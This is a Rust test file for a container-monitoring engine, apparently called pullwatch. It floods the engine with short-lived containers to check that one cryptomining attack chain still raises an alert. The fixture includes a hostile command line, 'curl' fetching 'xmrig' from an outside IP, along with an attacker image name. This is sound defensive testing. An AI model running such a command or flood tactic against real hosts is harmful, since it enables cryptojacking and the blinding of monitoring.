//! An attacker who can start containers tries to blind pullwatch by flooding it: a
//! million short-lived containers from untrusted images (each pulled, created,
//! started, and exited a moment later), plus a few thousand that stay up and quiet,
//! all around one real attack chain whose activity comes ten minutes after its start.
//! Tracked state is capped far below the flood; the chain must still alert, with its
//! pull, and every eviction must be counted.
//!
//! Stated bound: at most `max_tracked_containers` containers are ever tracked, and the
//! test process's peak resident set (`VmHWM`) stays under 256 MiB for the full flood
//! (10 000 tracked containers, 10 000 pulls, 50 000 pending events; the flood's events
//! are generated one at a time, never held).
//!
//! The always-on test floods 100 000 containers against a cap of 1 000; the full
//! million is `#[ignore]`d (three to four minutes in a debug build; last run: peak RSS
//! 100 MiB, 991 000 exited containers evicted, none that could still alert):
//! `cargo test -p pullwatch-engine --test flood -- --ignored`.

use pullwatch_engine::config::Config;
use pullwatch_engine::Engine;
use pullwatch_model::{
    ContainerLifecycle, ContainerRef, Event, EventKind, Format, ImagePull, ImageRef,
    LifecyclePhase, Placement, ProcessExec, SourceRef, Ts,
};
use std::sync::Arc;

const SEC: i64 = 1_000_000_000;
const T0: i64 = 1_795_165_200 * SEC;
const CHAIN_ID: &str = "a77ac4e5f0d1c2b3a4958677889900aabbccddeeff00112233445566778899aa";
const CHAIN_IMAGE: &str = "evil.example/tools/miner:1";

struct Gen {
    path: Arc<str>,
    line: u64,
}

impl Gen {
    fn event(&mut self, t: i64, kind: EventKind) -> Event {
        self.line += 1;
        Event::new(
            Ts(t),
            SourceRef {
                format: Format::DockerEvents,
                path: self.path.clone(),
                line: self.line,
            },
            kind,
        )
    }
}

fn cref(id: String, image: &str) -> ContainerRef {
    ContainerRef {
        host: Some("node-a".into()),
        id: Some(id.into()),
        image: Some(ImageRef::parse(image)),
        ..ContainerRef::default()
    }
}

fn pull(image: &str) -> EventKind {
    EventKind::ImagePull(ImagePull {
        host: Some("node-a".into()),
        image: ImageRef::parse(image),
        for_container: None,
        detail: format!("docker image pull {image}"),
    })
}

fn lifecycle(c: &ContainerRef, phase: LifecyclePhase) -> EventKind {
    EventKind::Container(ContainerLifecycle {
        container: c.clone(),
        phase,
        pid: None,
        sandbox: false,
        detail: format!("docker container {phase:?}"),
    })
}

struct Outcome {
    alerts: Vec<pullwatch_model::Alert>,
    stats: pullwatch_engine::stats::EngineStats,
}

/// Feeds the chain and the flood in time order, one generated event at a time.
fn flood(containers: u64, quiet: u64, cap: usize) -> Outcome {
    let mut cfg = Config::default();
    cfg.limits.max_tracked_containers = cap;
    cfg.limits.max_tracked_pulls = cap;
    cfg.limits.max_pending_events = 50_000;
    let mut engine = Engine::new(cfg);
    let mut alerts = Vec::new();
    let mut g = Gen {
        path: Arc::from("flood.jsonl"),
        line: 0,
    };
    let chain = cref(CHAIN_ID.to_string(), CHAIN_IMAGE);
    for (dt, kind) in [
        (0, pull(CHAIN_IMAGE)),
        (SEC, lifecycle(&chain, LifecyclePhase::Create)),
        (2 * SEC, lifecycle(&chain, LifecyclePhase::Start)),
    ] {
        let e = g.event(T0 + dt, kind);
        engine.push(e, &mut alerts);
    }
    // The flood fills the next ten minutes; one container in ten comes from a newly
    // pulled image. `quiet` of them never exit.
    let span = 590 * SEC;
    let step = span / containers as i64;
    for i in 0..containers {
        let t = T0 + 3 * SEC + i as i64 * step;
        let image = format!("flood.example/f{}/x:{}", i % 97, i / 10);
        // Ids differ in their first 12 characters, as real ones do.
        let c = cref(format!("{i:012x}{}", "5eed".repeat(13)), &image);
        if i % 10 == 0 {
            let e = g.event(t, pull(&image));
            engine.push(e, &mut alerts);
        }
        let e = g.event(t + step / 4, lifecycle(&c, LifecyclePhase::Create));
        engine.push(e, &mut alerts);
        let e = g.event(t + step / 2, lifecycle(&c, LifecyclePhase::Start));
        engine.push(e, &mut alerts);
        if i % (containers / quiet.max(1)) != 0 || quiet == 0 {
            let e = g.event(t + 3 * step / 4, lifecycle(&c, LifecyclePhase::Exit));
            engine.push(e, &mut alerts);
        }
    }
    let activity = EventKind::Process(ProcessExec {
        lineage: Default::default(),
        placement: Placement::Container(chain),
        pid: Some(4242),
        ppid: Some(1),
        exe: "/usr/bin/curl".into(),
        cmdline: "curl -s http://198.51.100.23/xmrig -o /tmp/x".into(),
        parent_exe: None,
        user: None,
    });
    let e = g.event(T0 + 600 * SEC, activity);
    engine.push(e, &mut alerts);
    engine.finish(&mut alerts);
    Outcome {
        alerts,
        stats: engine.stats(),
    }
}

fn peak_rss_mib() -> Option<u64> {
    let status = std::fs::read_to_string("/proc/self/status").ok()?;
    let line = status.lines().find(|l| l.starts_with("VmHWM:"))?;
    line.split_whitespace()
        .nth(1)?
        .parse::<u64>()
        .ok()
        .map(|kb| kb / 1024)
}

fn assert_chain_survives(o: &Outcome, containers: u64, quiet: u64, cap: usize) {
    let s = &o.stats;
    assert_eq!(o.alerts.len(), 1, "{s:#?}");
    let a = &o.alerts[0];
    assert_eq!(a.rule, "an0691.chain");
    assert_eq!(a.entity.container_id.as_deref(), Some(CHAIN_ID));
    assert_eq!(a.image.reference, "evil.example/tools/miner:1");
    // The chain kept its pull although ten thousand later pulls came and went.
    let stages: Vec<&str> = a.evidence.iter().map(|e| e.stage).collect();
    assert_eq!(stages, ["pull", "create", "start", "activity"]);
    assert!(
        a.reasons[1].starts_with("pulled on node-a at "),
        "{:?}",
        a.reasons
    );

    // Never more than the cap, and every container beyond it was evicted and counted.
    assert!(s.containers_peak <= cap as u64, "{s:#?}");
    let ev = |r: &str| s.evictions.get(r).copied().unwrap_or(0);
    let evicted_ctrs: u64 = s
        .evictions
        .iter()
        .filter(|(r, _)| r.starts_with("containers: "))
        .map(|(_, n)| n)
        .sum();
    assert_eq!(
        evicted_ctrs + s.containers_tracked,
        containers + 1,
        "{s:#?}"
    );
    // Exited containers went first; nothing that could still alert was pushed out.
    assert!(ev("containers: capacity, exited") >= containers - quiet - cap as u64);
    assert_eq!(ev("containers: capacity, could still alert"), 0, "{s:#?}");
    // Pulls were pushed out too (by the global or the per-repository cap).
    let pulls_evicted: u64 = s
        .evictions
        .iter()
        .filter(|(r, _)| r.starts_with("pulls: "))
        .map(|(_, n)| n)
        .sum();
    assert!(pulls_evicted > 0, "{s:#?}");
    assert_eq!(s.late, 0);
}

#[test]
fn a_flood_of_short_lived_containers_does_not_hide_the_chain() {
    let (containers, quiet, cap) = (100_000, 200, 1_000);
    let o = flood(containers, quiet, cap);
    assert_chain_survives(&o, containers, quiet, cap);
}

/// The policy is what saves the chain: with every container equally able to alert,
/// least-recently-seen eviction would have pushed the chain out first.
#[test]
fn untrusted_containers_that_stay_up_beyond_the_cap_are_counted_as_blinding() {
    let (containers, quiet, cap) = (20_000, 2_000, 1_000);
    let o = flood(containers, quiet, cap);
    // More live untrusted containers than the cap: some that could still alert had to
    // go, and the summary says so.
    assert!(
        o.stats
            .evictions
            .get("containers: capacity, could still alert")
            .copied()
            .unwrap_or(0)
            > 0,
        "{:#?}",
        o.stats
    );
}

#[test]
#[ignore = "a million containers: a few minutes in a debug build"]
fn a_million_containers_against_a_cap_of_ten_thousand() {
    let (containers, quiet, cap) = (1_000_000, 5_000, 10_000);
    let o = flood(containers, quiet, cap);
    assert_chain_survives(&o, containers, quiet, cap);
    let peak = peak_rss_mib().unwrap_or(0);
    eprintln!(
        "flood: {containers} containers, cap {cap}: peak RSS {peak} MiB, evictions {:?}",
        o.stats.evictions
    );
    assert!(peak < 256, "peak RSS {peak} MiB");
}
